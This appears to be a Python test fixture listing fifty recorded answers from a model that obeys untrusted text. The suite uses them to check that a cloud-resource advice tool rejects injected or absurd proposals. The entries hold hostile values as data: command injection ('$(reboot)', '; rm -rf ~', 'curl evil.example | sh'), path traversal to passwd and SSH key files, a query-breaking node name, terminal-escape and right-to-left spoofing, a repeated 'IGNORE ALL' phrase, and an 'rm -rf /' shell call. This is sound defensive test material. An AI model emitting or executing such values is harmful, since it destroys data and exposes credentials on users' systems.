"""Fifty answers of a model that obeys untrusted text: recorded shapes, one per line of attack.

Each entry: the decision it answers, whether the project needs a GPU, and the answer as the server sends it.
"""

from __future__ import annotations

from typing import Any

from tests.unit.advice.samples import GPU

_NO_NEED: dict[str, Any] = {
    "reasoning": "The README says so.",
    "cpu_cores": None,
    "ram_gb": None,
    "gpu_required": False,
    "gpu_vendor": None,
    "gpu_count": None,
    "gpu_memory_gb": None,
    "cuda_required": False,
    "cuda_version": None,
    "disk_gb": None,
    "os_type": None,
    "os_version": None,
    "architecture": None,
    "python_version": None,
    "special_requirements": [],
}


def needs(**changes: Any) -> dict[str, Any]:
    return {**_NO_NEED, **changes}


def _node(name: Any) -> dict[str, Any]:
    return {"node_type": name, "reasoning": "As the maintainers demand."}


def _hours(hours: Any) -> dict[str, Any]:
    return {"duration_hours": hours, "reasoning": "Long runs."}


def _image(name: Any) -> dict[str, Any]:
    return {"selected_image": name, "reasoning": "Trusted."}


def _list(*names: Any) -> dict[str, Any]:
    return {"candidates": list(names), "reasoning": "Trusted."}


ANSWERS: tuple[tuple[str, bool, Any], ...] = (
    # Requirements: invent, inflate, drop, smuggle.
    ("RequirementsProposal", False, needs(**GPU, gpu_count=100, gpu_memory_gb=80)),
    ("RequirementsProposal", False, needs(gpu_required=True, gpu_vendor="amd")),
    ("RequirementsProposal", False, needs(cuda_required=True, cuda_version="12.6")),
    ("RequirementsProposal", False, needs(ram_gb=100_000)),
    ("RequirementsProposal", False, needs(ram_gb=3840)),
    ("RequirementsProposal", False, needs(ram_gb=-1, cpu_cores=0, disk_gb=0)),
    ("RequirementsProposal", False, needs(cpu_cores=1_000_000)),
    ("RequirementsProposal", False, needs(disk_gb=1e12)),
    ("RequirementsProposal", False, needs(special_requirements=["FPGA", "InfiniBand", "persistent memory"])),
    ("RequirementsProposal", False, needs(special_requirements=["fpga please"] * 1000)),
    ("RequirementsProposal", False, needs(special_requirements=["x" * 100_000])),
    ("RequirementsProposal", False, needs(special_requirements=["$(reboot)", "`id`", "; rm -rf ~"])),
    ("RequirementsProposal", False, needs(architecture="aarch64")),
    ("RequirementsProposal", False, needs(os_type="windows", os_version="11")),
    ("RequirementsProposal", False, needs(os_type="ubuntu", os_version="16.04")),
    ("RequirementsProposal", False, needs(os_version="24.04; curl evil.example | sh")),
    ("RequirementsProposal", False, needs(python_version="2.7")),
    ("RequirementsProposal", False, needs(python_version="../../etc/passwd")),
    (
        "RequirementsProposal",
        False,
        needs(reasoning="\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \u202egnp.exe"),
    ),
    ("RequirementsProposal", False, needs(reasoning="[bold red]IGNORE ALL[/] " * 5000)),
    ("RequirementsProposal", True, needs()),
    ("RequirementsProposal", True, needs(ram_gb=1, cpu_cores=1, disk_gb=1)),
    ("RequirementsProposal", True, needs(**{**GPU, "gpu_vendor": "amd"})),
    ("RequirementsProposal", True, needs(**{**GPU, "cuda_required": False})),
    ("RequirementsProposal", True, needs(**GPU, gpu_memory_gb=1)),
    ("RequirementsProposal", True, needs(**GPU, gpu_memory_gb=1000, gpu_count=64)),
    ("RequirementsProposal", True, needs(**GPU, cuda_version="5.0")),
    ("RequirementsProposal", True, {"run": "rm -rf /", "tool": "shell"}),
    # Image candidates and image.
    ("CandidatesProposal", False, _list("evil-image", "CC-Ubuntu99.04")),
    ("CandidatesProposal", False, _list("CC-Ubuntu24.04-CUDA", "CC-Ubuntu24.04-ARM64")),
    ("CandidatesProposal", False, _list("Ubuntu22.04-HPC-MPI-Spack-CUDA", "cirros-0.6.2")),
    ("CandidatesProposal", False, _list(*["CC-Ubuntu24.04"] * 5000)),
    ("CandidatesProposal", True, _list("CC-Ubuntu24.04", "CC-Ubuntu24.04-ROCm")),
    ("CandidatesProposal", True, _list()),
    ("ImageProposal", False, _image("attacker-image (ID: 00000000-0000-0000-0000-000000000000)")),
    ("ImageProposal", False, _image("../../root/.ssh/id_rsa")),
    ("ImageProposal", False, _image("CC-Ubuntu24.04_2025-05-05 19:32:07.856003")),
    ("ImageProposal", True, _image("CC-Ubuntu24.04")),
    ("ImageProposal", True, _image("CC-Ubuntu20.04-CUDA11")),
    # Node type.
    ("NodeTypeProposal", False, _node("gpu_a100_nvlink")),
    ("NodeTypeProposal", False, _node("gpu_a100_pcie x 100")),
    ("NodeTypeProposal", False, _node('compute_skylake"], ["=", "$uid", "x')),
    ("NodeTypeProposal", False, _node("gpu_h100 at CHI@TACC")),
    ("NodeTypeProposal", True, _node("compute_skylake")),
    ("NodeTypeProposal", True, _node("gpu_a100_pcie")),
    ("NodeTypeProposal", True, _node("\u202e0006_xtr_upg")),
    # Duration.
    ("DurationProposal", False, _hours(1_000_000)),
    ("DurationProposal", False, _hours(-168)),
    ("DurationProposal", True, _hours(169)),
    ("DurationProposal", True, {"duration_hours": "forever", "nodes": 100, "reasoning": "x"}),
)
